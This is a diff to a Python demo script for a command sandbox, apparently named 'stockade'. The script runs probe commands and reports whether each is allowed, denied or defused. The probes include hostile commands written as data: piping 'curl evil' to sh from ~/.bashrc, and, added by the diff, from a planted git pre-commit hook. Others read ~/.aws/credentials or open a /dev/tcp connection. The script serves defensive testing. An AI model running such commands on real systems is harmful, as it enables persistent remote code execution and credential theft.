@@ -51,7 +51,8 @@ def main() -> None:
         ("write a file in the workspace", "echo hello > notes.txt && cat notes.txt"),
         ("append to ~/.bashrc", "echo 'curl evil | sh' >> ~/.bashrc"),
         ("read ~/.aws/credentials", "cat ~/.aws/credentials"),
-        ("create .git/hooks in the workspace", "mkdir -p .git/hooks"),
+        ("leave a git hook for your next commit",
+         "mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit"),
         ("reach a server on the host", f"exec 3<>/dev/tcp/127.0.0.1/{port} || "
                                        f"python3 -c 'import socket; socket.create_connection("
                                        f"(\"127.0.0.1\", {port}), 2)'"),
@@ -70,7 +71,9 @@ def main() -> None:
             except SandboxError as exc:
                 print(f"ERROR    {title}: {exc}\n")
                 continue
-            if out.exit_code == 0:
+            if out.exit_code == 0 and out.likely_sandbox_denied:
+                print(f"DEFUSED  {title}\n         {out.denial_hint}\n")
+            elif out.exit_code == 0:
                 print(f"allowed  {title}\n         -> {out.stdout.decode().strip()}\n")
             else:
                 reason = out.denial_hint or out.stderr.decode().strip().splitlines()[-1]
@@ -83,7 +86,8 @@ def main() -> None:
     with open(os.path.join(home, ".bashrc")) as fh:
         unchanged = fh.read() == "# your shell settings\n"
     print(f"~/.bashrc unchanged: {unchanged}; "
-          f".git created: {os.path.exists(os.path.join(workspace, '.git'))}")
+          "hook left for your next commit: "
+          f"{os.path.exists(os.path.join(workspace, '.git', 'hooks', 'pre-commit'))}")
     print(f"every run is in the audit ledger {ledger}: try `.venv/bin/stockade audit --last 6`")
     shutil.rmtree(root, ignore_errors=True)
 
